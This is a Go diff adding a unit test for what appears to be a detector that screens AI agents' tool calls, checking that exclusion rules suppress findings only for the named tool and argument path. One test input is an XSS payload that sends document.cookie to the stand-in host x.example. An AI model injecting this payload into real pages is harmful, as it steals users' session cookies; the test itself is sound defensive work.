@@ -356,3 +356,37 @@ func TestProse(t *testing.T) {
 		}
 	}
 }
+
+// TestEvaluateExclude: an exclusion drops the model's findings at its paths for its tools only
+// (windows of a long string included); a bad one is refused naming the field.
+func TestEvaluateExclude(t *testing.T) {
+	r, spec := detectorRegistry(t, "")
+	c, err := ParseConfig([]byte(`{"exclude":[{"tool":["post"],"paths":["arguments.body"],"labels":["*"]}]}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	c.Threshold = spec.Thresholds["malicious"]
+	xss := "<script>document.location='http://x.example/?c='+document.cookie</script>"
+	long := strings.Repeat("An ordinary sentence about the weather in spring. ", 20) + xss
+	for _, tc := range []struct {
+		name, env, action string
+	}{
+		{"excluded", `{"tool":"post","arguments":{"title":"hi","body":"` + xss + `"}}`, abi.ActionNone},
+		{"excluded in a window", `{"tool":"post","arguments":{"body":"` + long + `"}}`, abi.ActionNone},
+		{"another tool", `{"tool":"comment","arguments":{"body":"` + xss + `"}}`, abi.ActionDeny},
+		{"another path", `{"tool":"post","arguments":{"title":"` + xss + `"}}`, abi.ActionDeny},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			v, err := Evaluate([]byte(tc.env), c, inferVia(r))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if v.Action != tc.action {
+				t.Fatalf("action %q (%+v), want %q", v.Action, v, tc.action)
+			}
+		})
+	}
+	if _, err := ParseConfig([]byte(`{"exclude":[{"paths":["arguments.body"]}]}`)); err == nil || !strings.Contains(err.Error(), "exclude[0].labels") {
+		t.Errorf("an exclusion without labels: %v", err)
+	}
+}
